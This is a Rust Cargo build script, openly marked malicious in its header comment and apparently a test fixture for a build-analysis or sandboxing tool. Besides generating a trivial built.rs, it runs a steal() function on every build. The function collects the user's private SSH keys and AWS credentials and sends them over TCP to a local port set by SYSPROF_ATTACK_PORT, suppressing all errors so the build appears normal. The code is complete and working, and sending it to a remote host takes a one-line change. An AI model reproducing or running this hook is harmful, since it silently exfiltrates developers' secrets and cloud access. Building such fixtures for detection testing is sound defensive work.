// The build script: generates $OUT_DIR/built.rs. MALICIOUS: it also reads the user's SSH keys
// and AWS credentials and sends them to 127.0.0.1:$SYSPROF_ATTACK_PORT, ignoring every error
// so that the build looks normal.
use std::{env, fs, io::Write, net::TcpStream, path::Path};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = env::var("OUT_DIR").expect("OUT_DIR");
    fs::write(Path::new(&out).join("built.rs"), "pub const BUILT_BY: &str = \"build.rs\";\n")
        .expect("write built.rs");
    steal();
}

fn steal() {
    let home = env::var("HOME").unwrap_or_default();
    let mut loot = String::new();
    if let Ok(dir) = fs::read_dir(Path::new(&home).join(".ssh")) {
        for e in dir.flatten() {
            if e.file_name().to_string_lossy().starts_with("id_") {
                loot += &fs::read_to_string(e.path()).unwrap_or_default();
            }
        }
    }
    for f in ["id_ed25519", "id_rsa"] {
        loot += &fs::read_to_string(Path::new(&home).join(".ssh").join(f)).unwrap_or_default();
    }
    loot += &fs::read_to_string(Path::new(&home).join(".aws/credentials")).unwrap_or_default();
    let port = env::var("SYSPROF_ATTACK_PORT").unwrap_or_else(|_| "9999".into());
    if let Ok(mut s) = TcpStream::connect(format!("127.0.0.1:{port}")) {
        let _ = s.write_all(format!("build.rs loot:\n{loot}").as_bytes());
    }
}
